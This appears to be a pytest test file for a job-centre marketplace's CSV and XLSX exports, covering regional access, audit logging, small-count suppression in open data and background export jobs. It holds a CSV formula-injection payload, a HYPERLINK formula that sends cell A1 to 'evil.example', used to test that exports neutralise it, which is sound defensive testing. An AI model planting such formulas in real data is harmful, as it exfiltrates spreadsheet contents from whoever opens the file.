"""CSV and XLSX exports of the job centre's lists, the anonymised open-data table and the export
jobs behind them (inline without Redis, on an rq queue with it)."""

import csv
import io
from collections import Counter
from datetime import date, timedelta
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pytest
from redis.exceptions import ConnectionError as RedisConnectionError
from rq import Queue
from sqlalchemy import select

from marketplace.audit.models import AuditEvent
from marketplace.auth.models import Role, User
from marketplace.candidates.models import CandidateProfile
from marketplace.cases.models import (
    Case,
    CheckIn,
    ExportJob,
    JobStatus,
    ReleaseRecord,
    Reoffence,
    ReoffenceKind,
)
from marketplace.employers.models import (
    EmployerOrganisation,
    OrganisationMember,
    Schedule,
    Vacancy,
    VacancyStatus,
)
from marketplace.exports import jobs, opendata, services
from marketplace.extensions import db as _db
from marketplace.hiring.models import (
    Application,
    ApplicationStatus,
    ContractType,
    Employment,
    EmploymentStatus,
)
from marketplace.incentives import services as incentives
from marketplace.incentives.models import (
    Claim,
    ClaimMonth,
    ClaimStatus,
    IncentiveProgramme,
    MonthStatus,
    Payment,
    PaymentRun,
)
from marketplace.indicators.aggregates import latest_refresh, refresh
from marketplace.reference.models import Region
from marketplace.uploads.models import StoredFile

LISTS = ("candidates", "applications", "hires", "claims", "claim_months", "payments",
         "check_ins", "caseload", "organisations", "vacancies")
START = (date.today().replace(day=1) - timedelta(days=70)).replace(day=1)
MONTH = START
EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _region_id(code):
    return _db.session.scalar(select(Region.id).where(Region.code == code))


def _organisation_of(employer):
    return _db.session.scalar(select(EmployerOrganisation).join(OrganisationMember)
                              .where(OrganisationMember.user_id == employer.id))


def _build_region(make_user, code, tag):
    """One of everything in region `code`: a candidate hired by a local employer with a case,
    a check-in, an approved claim with an accepted month that has been paid."""
    candidate = make_user("candidate", region_code=code, full_name=f"Кандидат {tag}")
    employer = make_user("employer", region_code=code)
    staff = make_user("staff", region_code=code)
    profile = _db.session.scalar(select(CandidateProfile).where(
        CandidateProfile.user_id == candidate.id))
    profile.iin = None
    organisation = _organisation_of(employer)
    vacancy = Vacancy(organisation=organisation, title=f"Аспаз {tag}", status=VacancyStatus.OPEN,
                      schedule=Schedule.DAY, region_id=organisation.region_id)
    application = Application(vacancy=vacancy, profile=profile, status=ApplicationStatus.HIRED)
    employment = Employment(application=application, start_date=START,
                            monthly_wage=Decimal("100000.00"), hours_per_week=40,
                            contract_type=ContractType.PERMANENT,
                            status=EmploymentStatus.CONFIRMED, recorded_by_id=employer.id)
    _db.session.add_all([vacancy, application, employment,
                         Case(profile=profile, manager_id=staff.id, next_step="Call")])
    _db.session.flush()
    _db.session.add(CheckIn(employment_id=employment.id, months_after=1,
                            due_on=START + timedelta(days=31)))
    programme = _db.session.scalar(select(IncentiveProgramme).where(
        IncentiveProgramme.code == "kz-social-workplace"))
    claim = Claim(employment_id=employment.id, programme=programme,
                  region_id=organisation.region_id, organisation_id=organisation.id,
                  rule_version=incentives.version_in_force(programme, START),
                  status=ClaimStatus.ACTIVE, monthly_amount=Decimal("35000.00"), months=12,
                  total_amount=Decimal("420000.00"), created_by_id=employer.id)
    proof = StoredFile(owner_id=employer.id, storage_key=f"proof-{tag}", original_name="p.pdf",
                       content_type="application/pdf", size=1, sha256="0" * 64)
    run = PaymentRun(month=MONTH)
    _db.session.add_all([claim, proof, run])
    _db.session.flush()
    _db.session.add_all([
        ClaimMonth(claim_id=claim.id, month=MONTH, hours_worked=160,
                   wage_paid=Decimal("100000.00"), pension_file_id=proof.id,
                   status=MonthStatus.ACCEPTED, amount=Decimal("35000.00"),
                   submitted_by_id=employer.id),
        Payment(claim_id=claim.id, month=MONTH, amount=Decimal("35000.00"), run_id=run.id)])
    _db.session.commit()
    return SimpleNamespace(staff=staff, candidate=candidate, employer=employer,
                           profile_id=profile.id, vacancy_id=vacancy.id, claim_id=claim.id,
                           organisation_id=organisation.id, employment_id=employment.id)


@pytest.fixture
def world(app, make_user):
    """Astana and Karaganda, each with a full set of records, and an admin."""
    with app.app_context():
        incentives.seed_programmes()
        _db.session.commit()
        astana = _build_region(make_user, "KZ-AST", "A")
        karaganda = _build_region(make_user, "KZ-KAR", "K")
    return SimpleNamespace(astana=astana, karaganda=karaganda, admin=make_user("admin"))


def _export(client, kind, fmt):
    """Run an export through the pages as the signed-in user; the downloaded bytes."""
    started = client.post(f"/exports/{kind}.{fmt}")
    assert started.status_code == 302
    job_page = started.headers["Location"]
    assert client.get(job_page).status_code == 200
    with client.get(f"{job_page}/download") as download:
        assert download.status_code == 200
        return download.data


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _english_header(app, kind):
    with app.test_request_context(headers={"Accept-Language": "en"}):
        return services.all_exports()[kind].header()


# Lists ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("kind", LISTS)
def test_admin_csv_opens_in_the_csv_reader_with_every_regions_rows(app, client, login, world,
                                                                   kind):
    login(world.admin)
    header, *rows = read_csv(_export(client, kind, "csv"))
    assert header == _english_header(app, kind)
    assert len(rows) == 2 and all(len(row) == len(header) for row in rows)


@pytest.mark.parametrize("kind", LISTS)
def test_xlsx_opens_in_openpyxl_with_the_same_rows_as_csv(app, client, login, world, kind):
    login(world.astana.staff)
    csv_rows = read_csv(_export(client, kind, "csv"))
    xlsx_rows = read_xlsx(_export(client, kind, "xlsx"))
    assert xlsx_rows[0] == csv_rows[0] == _english_header(app, kind)
    assert len(xlsx_rows) == len(csv_rows) == 2
    assert str(xlsx_rows[1][0]) == csv_rows[1][0]  # the record number leads every list


@pytest.mark.parametrize("kind, astana_id", [
    ("candidates", "profile_id"), ("applications", None), ("hires", "employment_id"),
    ("claims", "claim_id"), ("organisations", "organisation_id"), ("vacancies", "vacancy_id"),
])
def test_staff_export_only_their_own_region(client, login, world, kind, astana_id):
    login(world.astana.staff)
    header, *rows = read_csv(_export(client, kind, "csv"))
    assert len(rows) == 1
    if astana_id:
        assert rows[0][0] == str(getattr(world.astana, astana_id))
    flat = " ".join(" ".join(row) for row in rows)
    assert "Кандидат K" not in flat and "Аспаз K" not in flat


def test_karaganda_staff_see_karaganda_money(client, login, world):
    login(world.karaganda.staff)
    for kind in ("claims", "claim_months", "payments"):
        _, *rows = read_csv(_export(client, kind, "csv"))
        claim_column = 0 if kind == "claims" else 1
        assert [row[claim_column] for row in rows] == [str(world.karaganda.claim_id)]


def test_the_hires_file_keeps_wages_as_numbers_and_dates_as_dates(client, login, world):
    login(world.astana.staff)
    header, row = read_xlsx(_export(client, "hires", "xlsx"))
    values = dict(zip(header, row, strict=True))
    assert values["Monthly wage, KZT"] == 100000
    assert values["Start date"].date() == START
    assert values["Candidate"] == "Кандидат A"
    header, row = read_csv(_export(client, "hires", "csv"))
    assert dict(zip(header, row, strict=True))["Monthly wage, KZT"] == "100000.00"


def test_the_candidate_list_carries_no_iin_and_no_conviction_data(app, client, login, world):
    with app.app_context():
        profile = _db.session.get(CandidateProfile, world.astana.profile_id)
        profile.iin = "880214300155"
        _db.session.add(ReleaseRecord(profile=profile, release_date=date(2025, 3, 1),
                                      details={"institution": "УГ-157/12", "document": "Справка"},
                                      verified_by_id=world.astana.staff.id))
        _db.session.commit()
        phone = _db.session.get(User, world.astana.candidate.id).phone
    login(world.astana.staff)
    for fmt in ("csv", "xlsx"):
        data = _export(client, "candidates", fmt)
        text = data.decode("utf-8-sig") if fmt == "csv" else repr(read_xlsx(data))
        for secret in ("880214300155", "УГ-157/12", "Справка", "2025-03-01", phone):
            assert secret not in text


def test_the_audit_log_is_for_admins_only(app, client, login, world, make_user):
    login(world.astana.staff)
    assert client.post("/exports/audit.csv").status_code == 404
    assert b'action="/exports/audit.' not in client.get("/exports/").data
    client.post("/logout")
    login(world.admin)
    header, *rows = read_csv(_export(client, "audit", "csv"))
    assert header == _english_header(app, "audit")
    assert "export:request" in {row[3] for row in rows}


def test_every_export_request_and_download_is_audited(app, client, login, world):
    login(world.astana.staff)
    _export(client, "candidates", "csv")
    with app.app_context():
        actions = _db.session.scalars(select(AuditEvent.action).where(
            AuditEvent.actor_id == world.astana.staff.id,
            AuditEvent.action.startswith("export:"))).all()
    assert Counter(actions) == {"export:request": 1, "export:download": 1}


# Formula injection -----------------------------------------------------------------------------

@pytest.mark.parametrize("text", ["=1+1", "+77012345678", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_text_a_spreadsheet_would_run_is_made_plain(text):
    assert jobs.guard(text) == "'" + text


@pytest.mark.parametrize("text", ["Сварщик", "5-2", "a=b", "", "'=quoted"])
def test_ordinary_text_is_left_alone(text):
    assert jobs.guard(text) == text


def test_formula_in_a_vacancy_title_stays_text_in_both_formats(app, client, login, world):
    with app.app_context():
        _db.session.get(Vacancy, world.astana.vacancy_id).title = EVIL_TITLE
        _db.session.commit()
    login(world.astana.staff)
    header, row = read_csv(_export(client, "vacancies", "csv"))
    assert row[header.index("Title")] == "'" + EVIL_TITLE
    data = _export(client, "vacancies", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cell = sheet.cell(row=2, column=header.index("Title") + 1)
    assert cell.data_type == "s" and cell.value == "'" + EVIL_TITLE


def test_control_characters_do_not_break_an_xlsx_file(app, client, login, world):
    with app.app_context():
        _db.session.get(Vacancy, world.astana.vacancy_id).title = "Аспаз\x0b\x01 түнгі"
        _db.session.commit()
    login(world.astana.staff)
    header, row = read_xlsx(_export(client, "vacancies", "xlsx"))
    assert row[header.index("Title")] == "Аспаз түнгі"


# Open data -------------------------------------------------------------------------------------

def _regions(*codes):
    return [SimpleNamespace(id=i, code=code, name=code) for i, code in enumerate(codes, 1)]


def test_counts_below_five_are_suppressed_and_zero_is_too():
    counts = Counter({("hires", 1, MONTH): 3, ("hires", 2, MONTH): 12,
                      ("registered", 1, MONTH): 5, ("registered", 2, MONTH): 4})
    rows = opendata.publishable_rows(counts, _regions("KZ-AAA", "KZ-BBB"))
    by_region = {row[1]: dict(zip(opendata.HEADER, row, strict=True)) for row in rows}
    assert by_region["KZ-AAA"]["hires"] == "<5" and by_region["KZ-BBB"]["hires"] == 12
    assert by_region["KZ-AAA"]["registered"] == 5 and by_region["KZ-BBB"]["registered"] == "<5"
    assert by_region["KZ-AAA"]["reincarcerations"] == "<5"  # none at all looks like a few


def test_no_total_lets_a_suppressed_count_be_recovered_by_subtraction():
    """A region with 3 hires next to one with 12: without totals nothing published minus other
    published figures gives the 3 back, and every region is listed for every month."""
    later = date(MONTH.year + 1, MONTH.month, 1)
    counts = Counter({("hires", 1, MONTH): 3, ("hires", 2, MONTH): 12,
                      ("applications", 2, later): 40})
    regions = _regions("KZ-AAA", "KZ-BBB", "KZ-CCC")
    rows = opendata.publishable_rows(counts, regions)
    assert ["month", "region_code", "region_name", *opendata.MEASURES] == opendata.HEADER
    assert len(rows) == 13 * len(regions)               # 13 months, quiet ones included
    assert {row[1] for row in rows} == {"KZ-AAA", "KZ-BBB", "KZ-CCC"}   # no total rows
    published = [value for row in rows for value in row[3:] if value != "<5"]
    assert sorted(published) == [12, 40]                # no sum of anything is published


def test_open_data_counts_follow_the_definitions(app, make_user, world):
    """Through the database and the indicators' count: Astana has 6 registrations (world's
    1 + 5), Karaganda 1; hires count only confirmed ones, subsidised only those with an
    approved claim."""
    for _ in range(5):
        make_user("candidate", region_code="KZ-AST")
    with app.app_context():
        astana, karaganda = _region_id("KZ-AST"), _region_id("KZ-KAR")
        _db.session.get(Claim, world.karaganda.claim_id).status = ClaimStatus.SUBMITTED
        _db.session.add(Reoffence(profile_id=world.astana.profile_id,
                                  kind=ReoffenceKind.NEW_CONVICTION, occurred_on=MONTH,
                                  details={"note": "x"}, recorded_by_id=world.admin.id))
        _db.session.add(Reoffence(profile_id=world.karaganda.profile_id,
                                  kind=ReoffenceKind.REINCARCERATION, occurred_on=MONTH,
                                  details={"note": "x"}, recorded_by_id=world.admin.id))
        _db.session.commit()
        refresh()  # the open data reads the indicators' stored counts
        counts = opendata.count_by_region_and_month()
        this_month = date.today().replace(day=1)
        assert counts["registered", astana, this_month] == 6
        assert counts["registered", karaganda, this_month] == 1
        assert counts["hires", astana, MONTH] == counts["hires", karaganda, MONTH] == 1
        assert counts["subsidised_hires", astana, MONTH] == 1
        assert counts["subsidised_hires", karaganda, MONTH] == 0
        assert counts["reincarcerations", astana, MONTH] == 0
        assert counts["reincarcerations", karaganda, MONTH] == 1


def test_staff_download_the_open_data_table_for_every_region(client, login, world, make_user):
    for _ in range(5):
        make_user("candidate", region_code="KZ-AST")
    login(world.karaganda.staff)
    header, *rows = read_csv(_export(client, "opendata", "csv"))
    assert header == opendata.HEADER
    this_month = f"{date.today():%Y-%m}"
    row = {r[1]: r for r in rows if r[0] == this_month}
    assert row["KZ-AST"][3] == "6" and row["KZ-KAR"][3] == "<5"
    assert len(rows) % 20 == 0 and len({r[1] for r in rows}) == 20
    assert client.post("/exports/opendata.xlsx").status_code == 404


# Jobs ----------------------------------------------------------------------------------------

def _job(app, job_id) -> ExportJob:
    with app.app_context():
        job = _db.session.get(ExportJob, job_id)
        _db.session.expunge(job)
        return job


def _job_id(response) -> int:
    return int(response.headers["Location"].rstrip("/").split("/")[-1])


def test_without_redis_the_job_runs_inline_and_the_page_offers_the_file(app, client, login,
                                                                        world, monkeypatch):
    monkeypatch.setitem(app.config, "REDIS_URL", None)
    monkeypatch.setattr(jobs, "_queue", lambda url: pytest.fail("no Redis is configured"))
    login(world.astana.staff)
    index = client.get("/exports/")
    assert b"Candidates" in index.data and b"Excel (XLSX)" in index.data
    response = client.post("/exports/candidates.csv")
    job = _job(app, _job_id(response))
    assert (job.status, job.done_rows, job.total_rows) == (JobStatus.DONE, 1, 1)
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Ready" in page and "Download the file" in page and 'http-equiv="refresh"' not in page
    with client.get(f"/exports/jobs/{job.id}/download") as download:
        assert download.headers["Content-Disposition"].startswith("attachment;")
        assert download.headers["Content-Type"].startswith("text/csv")
    assert f"/exports/jobs/{job.id}" in client.get("/exports/").get_data(as_text=True)


def test_with_redis_the_job_goes_to_the_rq_queue(app, client, login, world, monkeypatch):
    captured = []
    monkeypatch.setitem(app.config, "REDIS_URL", "redis://127.0.0.1:6379/15")
    monkeypatch.setattr(Queue, "enqueue", lambda queue, f, *args, **kwargs: captured.append(
        (queue.name, f, args, kwargs)))
    login(world.astana.staff)
    response = client.post("/exports/hires.xlsx")
    job_id = _job_id(response)
    assert captured == [("exports", jobs.run_queued, (job_id,),
                         {"job_timeout": jobs.JOB_TIMEOUT})]
    assert _job(app, job_id).status is JobStatus.QUEUED
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Waiting to start" in page and "Update automatically" in page
    assert client.get(f"/exports/jobs/{job_id}/download").status_code == 404

    with app.app_context():  # what the worker does
        jobs.run_export(job_id)
    assert _job(app, job_id).status is JobStatus.DONE
    with client.get(f"/exports/jobs/{job_id}/download") as download:
        assert read_xlsx(download.data)[1][0] == world.astana.employment_id


def test_a_running_job_shows_its_progress_and_refreshes_only_when_asked(app, client, login,
                                                                       world):
    login(world.astana.staff)
    with app.app_context():
        job = ExportJob(kind="claims", params={"format": "csv"}, status=JobStatus.RUNNING,
                        done_rows=200, total_rows=1000, created_by_id=world.astana.staff.id)
        _db.session.add(job)
        _db.session.commit()
        job_id = job.id
    page = client.get(f"/exports/jobs/{job_id}").get_data(as_text=True)
    assert '<progress id="job-progress" max="1000" value="200">' in page
    assert "200 of 1000" in page and "Check again" in page
    assert 'http-equiv="refresh"' not in page, "a self-reloading page is opt-in (axe-core)"
    auto = client.get(f"/exports/jobs/{job_id}?auto=1").get_data(as_text=True)
    assert 'http-equiv="refresh"' in auto and "Stop automatic updates" in auto


def test_progress_is_saved_as_rows_are_written(app, client, login, world, make_user,
                                               monkeypatch):
    for _ in range(4):
        make_user("candidate", region_code="KZ-AST")
    monkeypatch.setattr(jobs, "PROGRESS_EVERY", 2)
    seen = []
    real_writer = jobs.WRITERS["csv"]

    def watching_writer(path, kind, header, rows):
        def spy():
            for row in rows:
                seen.append(_db.session.scalar(select(ExportJob.done_rows)))
                yield row
        return real_writer(path, kind, header, spy())

    monkeypatch.setitem(jobs.WRITERS, "csv", watching_writer)
    login(world.astana.staff)
    job = _job(app, _job_id(client.post("/exports/candidates.csv")))
    assert seen == [0, 0, 2, 2, 4] and (job.done_rows, job.total_rows) == (5, 5)


def test_when_redis_is_down_the_job_still_runs(app, client, login, world, monkeypatch):
    def refuse(*args, **kwargs):
        raise RedisConnectionError("Connection refused")

    monkeypatch.setitem(app.config, "REDIS_URL", "redis://127.0.0.1:1/0")
    monkeypatch.setattr(Queue, "enqueue", refuse)
    login(world.astana.staff)
    job = _job(app, _job_id(client.post("/exports/vacancies.csv")))
    assert job.status is JobStatus.DONE


def test_a_failed_job_shows_the_error_and_leaves_no_file(app, client, login, world,
                                                         monkeypatch):
    def broken(path, kind, header, rows):
        path.write_text("half")
        raise OSError("No space left on device")

    monkeypatch.setitem(jobs.WRITERS, "csv", broken)
    with app.app_context():
        folder = jobs.export_dir()
    files_before = set(folder.glob("*")) if folder.exists() else set()
    login(world.astana.staff)
    response = client.post("/exports/payments.csv")
    page = client.get(response.headers["Location"])
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert "The export failed" in text and "No space left on device" in text
    job = _job(app, _job_id(response))
    assert job.status is JobStatus.FAILED and job.finished_at is not None
    assert set(folder.glob("*")) == files_before
    assert client.get(f"/exports/jobs/{job.id}/download").status_code == 404


def test_a_job_whose_requester_lost_the_right_fails_with_a_reason(app, world):
    with app.test_request_context(headers={"Accept-Language": "en"}):
        staff = _db.session.get(User, world.astana.staff.id)
        job = services.create_job(services.export_for(staff, "candidates"), "csv", user=staff)
        staff.role = Role.CANDIDATE
        _db.session.commit()
        jobs.run_export(job.id)
        job = _db.session.get(ExportJob, job.id)
        assert job.status is JobStatus.FAILED
        assert job.error == "This export is no longer available to you."
        jobs.run_export(job.id)  # a finished job is never run again
        assert _db.session.get(ExportJob, job.id).status is JobStatus.FAILED


def test_only_the_requester_sees_and_downloads_a_job(app, client, login, world, make_user):
    login(world.astana.staff)
    response = client.post("/exports/caseload.xlsx")
    job_id = _job_id(response)
    client.post("/logout")
    for other in (make_user("staff", region_code="KZ-AST"), world.admin):
        login(other)
        assert client.get(f"/exports/jobs/{job_id}").status_code == 404
        assert client.get(f"/exports/jobs/{job_id}/download").status_code == 404
        assert f"/exports/jobs/{job_id}" not in client.get("/exports/").get_data(as_text=True)
        client.post("/logout")
    login(world.astana.staff)
    with client.get(f"/exports/jobs/{job_id}/download") as download:
        assert download.status_code == 200


@pytest.mark.parametrize("path", ["/exports/nothing.csv", "/exports/candidates.pdf",
                                  "/exports/opendata.xlsx"])
def test_unknown_exports_and_formats_are_not_found(client, login, world, path):
    login(world.admin)
    assert client.post(path).status_code == 404


# The indicator table ---------------------------------------------------------------------------

def test_the_indicator_table_has_a_row_per_region_and_month(app, client, login, world):
    login(world.astana.staff)
    header, *rows = read_csv(_export(client, "indicators", "csv"))
    assert header[:4] == ["Month", "Region code", "Region", "Registered candidates"]
    assert "Hires" in header and "Employed 3 months after the hire (%)" in header
    assert {row[1] for row in rows} == {"KZ-AST"} and len(rows) == 12
    by_month = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_month[f"{date.today():%Y-%m}"]["Registered candidates"] == "1"
    assert by_month[f"{START:%Y-%m}"]["Hires"] == "1"
    assert by_month[f"{START:%Y-%m}"]["Subsidised hires"] == "1"
    client.post("/logout")
    login(world.admin)
    header, *rows = read_xlsx(_export(client, "indicators", "xlsx"))
    assert len(rows) == 12 * 20


def test_the_indicator_table_is_the_dashboards_figures(app, client, login, world):
    """Both read the same stored aggregates: the exported month equals the dashboard's."""
    from marketplace.indicators import board
    from marketplace.indicators import services as indicators

    login(world.admin)
    header, *rows = read_csv(_export(client, "indicators", "csv"))
    row = {r[1]: dict(zip(header, r, strict=True)) for r in rows if r[0] == f"{START:%Y-%m}"}
    with app.app_context():
        astana = _region_id("KZ-AST")
        scope = indicators.Scope(frozenset({astana}))
        figures = board.read_dashboard(scope, indicators.Period(START, START),
                                       latest_refresh()).results
    assert row["KZ-AST"]["Hires"] == str(figures["hires"].total.value)
    assert row["KZ-AST"]["Applications"] == str(figures["applications"].total.value)


@pytest.mark.parametrize("kind", ["indicators", "opendata"])
def test_before_the_first_count_in_production_the_export_says_why(app, client, login, world,
                                                                   monkeypatch, kind):
    monkeypatch.setitem(app.config, "APP_ENV", "production")
    login(world.admin)
    started = client.post(f"/exports/{kind}.csv")
    job = _job(app, _job_id(started))
    assert job.status is JobStatus.FAILED
    assert "have not been counted yet" in job.error
    assert "have not been counted yet" in client.get(started.headers["Location"]).get_data(
        as_text=True)
